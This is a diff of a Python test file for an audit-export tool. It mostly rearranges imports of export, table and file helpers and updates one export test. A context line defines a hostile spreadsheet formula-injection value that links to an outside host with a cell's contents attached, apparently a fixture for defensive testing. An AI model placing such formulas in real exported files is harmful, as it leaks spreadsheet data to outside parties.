@@ -10,8 +10,11 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from claimaudit import cli, export, tables
+from claimaudit import cli
 from claimaudit.audit import Audit
+from claimaudit.report import export
+from claimaudit.views import tables
+from claimaudit.views.files import FILES, FOLDER, workbook
 from small_audit import SLUG, edit_row, write_small_audit
 
 HOSTILE = '=HYPERLINK("http://example.org/?"&A1,"click")'
@@ -200,7 +203,7 @@ def test_lines_hold_every_word():
 
 def test_what_a_report_says_lies_beside_it_is_what_an_export_writes(audit, tmp_path):
     written = {path.name for path in export.export(audit, tmp_path)}
-    assert written == {*export.FILES, export.workbook(audit.slug)}
+    assert written == {*FILES, workbook(audit.slug)}
     links = re.findall(r'href="([^"]+)"', tables.files(audit).source)
-    default = f"../reports/{audit.slug}/{export.FOLDER}"
+    default = f"../reports/{audit.slug}/{FOLDER}"
     assert {f"{default}/{name}" for name in written} == set(links)
